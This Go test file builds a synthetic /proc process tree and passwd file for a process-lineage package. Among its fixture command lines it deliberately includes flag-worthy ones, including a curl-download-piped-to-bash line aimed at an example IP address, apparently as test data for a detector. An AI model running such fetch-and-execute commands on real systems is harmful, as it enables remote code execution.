package lineage

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// fixtureProc is one process of a synthetic /proc tree.
type fixtureProc struct {
	PID, PPID  int64
	Comm       string
	State      byte // 'S' when zero
	StartTicks uint64
	Args       []string // nil: empty cmdline (kernel thread)
	RawCmdline []byte   // written instead of Args when set
	Exe        string   // target of the exe link; none when empty
	UID        uint32
	Tgid       int64 // Tgid in status; PID when zero
}

// fixture describes a whole synthetic system.
type fixture struct {
	BootID string
	Btime  int64
	Users  map[uint32]string
	Procs  []fixtureProc
}

// statLine formats /proc/<pid>/stat as the kernel does (52 fields, starttime 22nd).
func statLine(p fixtureProc) string {
	state := p.State
	if state == 0 {
		state = 'S'
	}
	// fields 5..21: pgrp session tty_nr tpgid flags minflt cminflt majflt cmajflt utime stime cutime cstime priority nice num_threads itrealvalue
	return fmt.Sprintf("%d (%s) %c %d %d %d 0 -1 4194560 1234 0 5 0 12 7 0 0 20 0 1 0 %d 12345678 567 18446744073709551615 1 1 0 0 0 0 0 0 65536 0 0 0 17 1 0 0 0 0 0 0 0 0 0 0 0 0 0\n",
		p.PID, p.Comm, state, p.PPID, p.PID, p.PID, p.StartTicks)
}

func statusText(p fixtureProc) string {
	tgid := p.Tgid
	if tgid == 0 {
		tgid = p.PID
	}
	return fmt.Sprintf("Name:\t%s\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t%d\nNgid:\t0\nPid:\t%d\nPPid:\t%d\nTracerPid:\t0\nUid:\t%d\t%d\t%d\t%d\nGid:\t0\t0\t0\t0\nFDSize:\t64\nGroups:\t\nVmPeak:\t  123 kB\nThreads:\t1\n",
		p.Comm, tgid, p.PID, p.PPID, p.UID, p.UID, p.UID, p.UID)
}

// writeFixture writes f under root as root/proc/... and root/etc/passwd.
func writeFixture(tb testing.TB, root string, f fixture) {
	tb.Helper()
	must := func(err error) {
		if err != nil {
			tb.Fatal(err)
		}
	}
	proc := filepath.Join(root, "proc")
	must(os.MkdirAll(filepath.Join(proc, "sys", "kernel", "random"), 0o755))
	must(os.MkdirAll(filepath.Join(root, "etc"), 0o755))
	must(os.WriteFile(filepath.Join(proc, "sys", "kernel", "random", "boot_id"), []byte(f.BootID+"\n"), 0o644))
	must(os.WriteFile(filepath.Join(proc, "stat"), []byte(fmt.Sprintf("cpu  1 2 3 4\nintr 0\nctxt 99\nbtime %d\nprocesses 1\n", f.Btime)), 0o644))
	must(os.WriteFile(filepath.Join(proc, "meminfo"), []byte("MemTotal: 1 kB\n"), 0o644))
	must(os.MkdirAll(filepath.Join(proc, "sysvipc"), 0o755))
	var pw strings.Builder
	pw.WriteString("# comment\n")
	for uid, name := range f.Users {
		fmt.Fprintf(&pw, "%s:x:%d:%d::/home/%s:/bin/sh\n", name, uid, uid, name)
	}
	must(os.WriteFile(filepath.Join(root, "etc", "passwd"), []byte(pw.String()), 0o644))
	for _, p := range f.Procs {
		dir := filepath.Join(proc, strconv.FormatInt(p.PID, 10))
		must(os.MkdirAll(dir, 0o755))
		must(os.WriteFile(filepath.Join(dir, "stat"), []byte(statLine(p)), 0o444))
		must(os.WriteFile(filepath.Join(dir, "status"), []byte(statusText(p)), 0o444))
		cmd := p.RawCmdline
		if cmd == nil && p.Args != nil {
			cmd = []byte(strings.Join(p.Args, "\x00") + "\x00")
		}
		must(os.WriteFile(filepath.Join(dir, "cmdline"), cmd, 0o444))
		if p.Exe != "" {
			must(os.Symlink(p.Exe, filepath.Join(dir, "exe")))
		}
	}
	must(os.Symlink("1", filepath.Join(proc, "self")))
}

// synthetic returns a plausible system of n processes: systemd and kthreadd,
// kernel threads, services, login sessions with shells several levels deep, and a
// few command lines worth flagging.
func synthetic(n int) fixture {
	rng := rand.New(rand.NewPCG(1, 2))
	f := fixture{BootID: "0d9a6c1e-2b3f-4c5d-8e9f-0123456789ab", Btime: 1767225600,
		Users: map[uint32]string{0: "root", 33: "www-data", 1000: "alice", 1001: "bob"}}
	add := func(p fixtureProc) { f.Procs = append(f.Procs, p) }
	add(fixtureProc{PID: 1, Comm: "systemd", Args: []string{"/sbin/init", "splash"}, Exe: "/usr/lib/systemd/systemd", StartTicks: 1})
	add(fixtureProc{PID: 2, Comm: "kthreadd", StartTicks: 1})
	kernel := n / 20
	for i := 0; i < kernel; i++ {
		add(fixtureProc{PID: int64(3 + i), PPID: 2, Comm: fmt.Sprintf("kworker/%d:%d-events", i%8, i), StartTicks: uint64(2 + i)})
	}
	type shape struct {
		comm, exe string
		args      []string
		uid       uint32
	}
	shapes := []shape{
		{"bash", "/usr/bin/bash", []string{"-bash"}, 1000},
		{"sh", "/usr/bin/dash", []string{"sh", "-c", "run-parts --report /etc/cron.hourly"}, 0},
		{"python3", "/usr/bin/python3.12", []string{"/usr/bin/python3", "/opt/app/worker.py", "--queue", "default"}, 33},
		{"sleep", "/usr/bin/sleep", []string{"sleep", "30"}, 1000},
		{"nginx", "/usr/sbin/nginx", []string{"nginx: worker process"}, 33},
		{"node", "/usr/bin/node", []string{"node", "/srv/app/server.js"}, 1001},
		{"curl", "/usr/bin/curl", []string{"curl", "-s", "http://203.0.113.7/x.sh"}, 33},
		{"bash", "/usr/bin/bash", []string{"bash", "-c", "curl -s http://203.0.113.7/x.sh | bash"}, 33},
		{"ssh", "/usr/bin/ssh", []string{"ssh", "-o", "StrictHostKeyChecking=no", "deploy@10.0.0.5"}, 1001},
		{"vim", "/usr/bin/vim.basic", []string{"vim", "notes with spaces.txt"}, 1000},
	}
	pids := []int64{1}
	next := int64(3 + kernel)
	for len(f.Procs) < n {
		parent := pids[rng.IntN(len(pids))]
		if rng.IntN(3) == 0 {
			parent = 1 // many services hang off init
		}
		s := shapes[rng.IntN(len(shapes))]
		pid := next
		next += int64(1 + rng.IntN(3))
		add(fixtureProc{PID: pid, PPID: parent, Comm: s.comm, Args: s.args, Exe: s.exe, UID: s.uid,
			StartTicks: uint64(100 + len(f.Procs))})
		pids = append(pids, pid)
	}
	return f
}
